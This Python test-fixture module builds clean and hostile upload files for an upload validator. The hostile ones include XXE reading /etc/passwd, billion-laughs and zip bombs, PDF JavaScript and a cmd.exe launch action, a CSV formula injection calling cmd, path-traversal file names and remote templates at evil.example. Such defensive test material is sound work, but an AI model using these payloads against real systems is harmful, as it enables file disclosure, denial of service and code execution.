"""Files as people upload them, made in code: good ones of each kind, and the thirty bad ones."""

import io
import struct
import zipfile
import zlib

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(2, 10))
    + b"]><lolz>&lol9;</lolz>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
EXE = b"MZ\x90\0\x03\0\0\0\x04" + bytes(64) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(400)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def pdf(*objects, trailer=b"", words=b"Ada Whitlock (CV)"):
    """Return a PDF of one page; `objects` are added to it, `trailer` to its trailer."""
    text = b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % words.replace(b"(", rb"\(").replace(b")", rb"\)")
    packed = zlib.compress(text)
    parts = [
        b"<</Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit]>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R] /Resources 7 0 R>>",
        b"<</Length %d /Filter /FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed),
        b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
        b"<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (https://github.example/topics/JavaScript)>>>>",
        b"<</Font <</F1 5 0 R>>>>",
        *objects,
    ]
    body, places = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(parts) + 1, table)
    body += b"trailer\n<</Size %d /Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, trailer, start)
    return body


def packed_objects(text, more=b"", raw=None):
    """Return an object stream, in which objects lie compressed."""
    packed = zlib.compress(b"9 0 " + text) if raw is None else raw
    return b"<</Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode%s>>\nstream\n%s\nendstream" % (
        len(packed), more, packed,
    )  # fmt: skip


def archive(parts, method=zipfile.ZIP_DEFLATED):
    """Return a zip archive of these (name, content) pairs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as whole:
        for name, content in parts:
            with whole.open(name, "w") as part:
                if isinstance(content, bytes):
                    part.write(content)
                else:  # so many megabytes of nothing
                    for _ in range(content):
                        part.write(bytes(1024**2))
    return out.getvalue()


def types(main, part="/word/document.xml", more=b""):
    return (
        XML + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="%s" ContentType="%s"/>%s</Types>' % (part.encode(), main.encode(), more)
    )


def relations(*found):
    """Return a part of relations, each (kind, target, is external)."""
    mode = {True: ' TargetMode="External"', False: ""}
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{target}"{mode[outside]}/>'
        for n, (kind, target, outside) in enumerate(found)
    )
    return XML + f'<Relationships xmlns="{_RELATIONS}">{rows}</Relationships>'.encode()


def docx(*more, main=WORD, content_types=None, document=b"<document><p>Ada Whitlock</p></document>"):
    """Return a Word document; `more` are further parts."""
    return archive(
        [
            ("[Content_Types].xml", content_types or types(main)),
            ("_rels/.rels", relations(("officeDocument", "word/document.xml", False))),
            ("word/document.xml", document if document.startswith(b"<?xml") else XML + document),
            ("word/media/photo.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
            *more,
        ]
    )


def pptx():
    return archive(
        [
            ("[Content_Types].xml", types(SLIDES, "/ppt/presentation.xml")),
            ("_rels/.rels", relations(("officeDocument", "ppt/presentation.xml", False))),
            ("ppt/presentation.xml", XML + b"<presentation/>"),
            ("ppt/_rels/presentation.xml.rels", relations(("hyperlink", "https://uni.example/talk", True))),
        ]
    )


def xlsx(sheet):
    return archive([("[Content_Types].xml", types(SHEET, "/xl/workbook.xml")), ("xl/worksheets/sheet1.xml", sheet)])


def many_entries(count):
    """Return an archive that claims so many empty parts, as small as it can be: one local part, many entries of it."""
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * count
    shown = min(count, 0xFFFF)
    return local + directory + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, shown, shown, len(directory), len(local), 0)


GOOD = {
    "cv.pdf": pdf(),
    "linked.pdf": pdf(packed_objects(b"<</Type /Annot>>")),
    "cv.docx": docx(("word/_rels/document.xml.rels", relations(("hyperlink", "https://ada.example/", True)))),
    "talk.pptx": pptx(),
    "statement.txt": "Why graphs? Because of Erdős.\r\n".encode(),
    "notes.md": b"# Notes\n\n<b>bold</b> is fine inside of text.\n",
    "summary.tex": r"\documentclass{article}\begin{document}Zürich\end{document}".encode(),
    "Lebenslauf Ä.pdf": pdf(words=b"Lebenslauf"),
}


TEMPLATE = docx(("word/_rels/settings.xml.rels", relations(("attachedTemplate", "https://evil.example/t.dotm", True))))
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def bad_files():
    """Return the thirty: what it is -> (name as it is sent, content, a part of the sentence)."""
    many = [packed_objects(b"", raw=zlib.compress(bytes(15 * 1024**2)))] * 40
    within = archive([("a", b"a")]) + b"%%EOF"
    return {
        "empty": ("cv.pdf", b"", "The file is empty."),
        "HTML as PDF": ("cv.pdf", HTML, "it is a web page"),
        "polyglot, page first": ("cv.pdf", b"<!-- -->\n" + HTML[:200] + pdf(), "it is a web page"),
        "polyglot, zip behind": ("cv.pdf", pdf() + archive([("a.txt", b"a")]), "Something is added to the end"),
        "polyglot, zip within": ("cv.pdf", pdf().replace(b"%%EOF", within), "or hidden in it"),
        "polyglot, text first": ("cv.pdf", b"GIF89a;\n" + pdf(), "Something stands before"),
        "JavaScript": ("cv.pdf", pdf(b"<</S /JavaScript /JS (app.alert(1))>>"), "can run scripts"),
        "JavaScript, spelled": ("cv.pdf", pdf(b"<</S/J#61vaScript/#4aS(app.alert(1))>>"), "can run scripts"),
        "JavaScript, packed": ("cv.pdf", pdf(packed_objects(b"<</S /JavaScript /JS (a)>>")), "can run scripts"),
        "starts a program": ("cv.pdf", pdf(b"<</S /Launch /F (cmd.exe)>>"), "can run scripts"),
        "attachment": ("cv.pdf", pdf(b"<</Type /EmbeddedFile>>"), "attached inside"),
        "packed oddly": ("cv.pdf", pdf(packed_objects(b"<<>>", b" /Predictor 12")), "cannot be checked"),
        "packed and broken": ("cv.pdf", pdf(packed_objects(b"", raw=b"no zlib")), "is damaged"),
        "unpacks for ever": ("cv.pdf", pdf(*many), "far more"),
        "encrypted": ("cv.pdf", pdf(trailer=b" /Encrypt 9 0 R"), "locked with a password"),
        "truncated": ("cv.pdf", pdf()[:-40], "cut off"),
        "oversize": ("cv.pdf", pdf(words=b"x") + b" " * 5 * 1024**2, "larger than 5 MB"),
        "EXE as PDF": ("cv.pdf", EXE, "it is a program"),
        "SVG as PNG": ("photo.png", SVG, "Pictures are not kept"),
        "SVG as text": ("photo.txt", SVG, "it is a web page or a drawing"),
        "cv.pdf.html": ("cv.pdf.html", pdf(), "Web pages and drawings"),
        "a path": ("../../cv.pdf", pdf(), "a path or hidden characters"),
        "a Windows path": ("..\\..\\cv.pdf", pdf(), "a path or hidden characters"),
        "NUL in the name": ("cv\0.pdf", pdf(), "a path or hidden characters"),
        "CRLF in the name": ("cv\r\nX: y.pdf", pdf(), "a path or hidden characters"),
        "300 characters": ("c" * 296 + ".pdf", pdf(), "longer than 120 characters"),
        "right-to-left": ("cv\u202efdp.exe.pdf", pdf(), "a path or hidden characters"),
        "CON.pdf": ("CON.pdf", pdf(), "Windows keeps for itself"),
        "-rf.pdf": ("-rf.pdf", pdf(), "begins with a dash"),
        ".pdf": (".pdf", pdf(), "begins with a dot"),
        "macros": ("cv.docx", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "There are macros"),
        "macros by type": ("cv.docx", docx(main=MACROS), "There are macros"),
        "remote template": ("cv.docx", TEMPLATE, "loads something from elsewhere"),
        "linked picture": (
            "cv.docx",
            docx(("word/_rels/document.xml.rels", relations(("image", "http://10.0.0.1/x.png", True)))),
            "loads something from elsewhere",
        ),
        "link to a share": (
            "cv.docx",
            docx(("word/_rels/document.xml.rels", relations(("hyperlink", r"\\evil.example\share", True)))),
            "loads something from elsewhere",
        ),
        "100,000 entries": ("cv.docx", many_entries(100_000), "thousands of parts"),
        "nested zip": ("cv.docx", docx(("word/embeddings/a.bin", archive([("b", b"b")]))), "another file inside"),
        "nested table": ("cv.docx", docx(("word/embeddings/a.xlsx", xlsx(b""))), "another file inside"),
        "zip as docx": ("cv.docx", archive([("a.txt", b"a")]), "no Office document"),
        "slides as docx": ("cv.docx", pptx(), "those of something else"),
        "PDF as docx": ("cv.docx", pdf(), "it is a PDF"),
        "something behind": ("cv.docx", docx() + b"more", "added to its end"),
        "something before": ("cv.docx", HTML + docx(), "it is a web page"),
        "a part outside": ("cv.docx", docx(("../../evil.xml", b"<a/>")), "a place outside"),
        "xlsx of 184 MiB": ("data.xlsx", xlsx(184), "Tables are not kept"),
        "docx of 184 MiB": ("cv.docx", docx(("word/a.xml", 184)), "far more than its size"),
        "billion laughs": ("cv.docx", docx(document=LAUGHS), "definitions of entities"),
        "laughs in the types": ("cv.docx", docx(content_types=LAUGHS), "definitions of entities"),
        "XXE": ("cv.docx", docx(("word/_rels/a.xml.rels", XXE)), "definitions of entities"),
        "maximal dimension": (
            "data.xlsx", xlsx(b'<worksheet><dimension ref="A1:XFD1048576"/></worksheet>'), "Tables are not kept",
        ),
        "external link": ("data.xlsx", xlsx(b"<externalLink/>"), "Tables are not kept"),
        "UTF-16": ("notes.txt", "Grüße".encode("utf-16"), "saved as UTF-16"),
        "mixed text": ("notes.txt", "Grüße\n".encode() + "Grüße".encode("latin-1"), "Line 2 is not in UTF-8"),
        "NUL text": ("notes.txt", b"a\0b", "empty characters (NUL)"),
        "control characters": ("notes.txt", b"a\x1b[31mb", "control characters"),
        "10 MB cell": ("notes.txt", b"x" * 7 * 1024**2, "larger than 5 MB"),
        "million rows": ("rows.csv", b"a,a\n" + b"1,2\n" * 1_000_000, "Tables are not kept"),
        "formula cells": ("rows.csv", b"=cmd|' /C calc'!A0\n", "Tables are not kept"),
        "old Word": ("cv.doc", b"\xd0\xcf\x11\xe0", "Save it as PDF"),
        "no ending": ("cv", pdf(), "Waymark keeps PDF, Word"),
    }  # fmt: skip
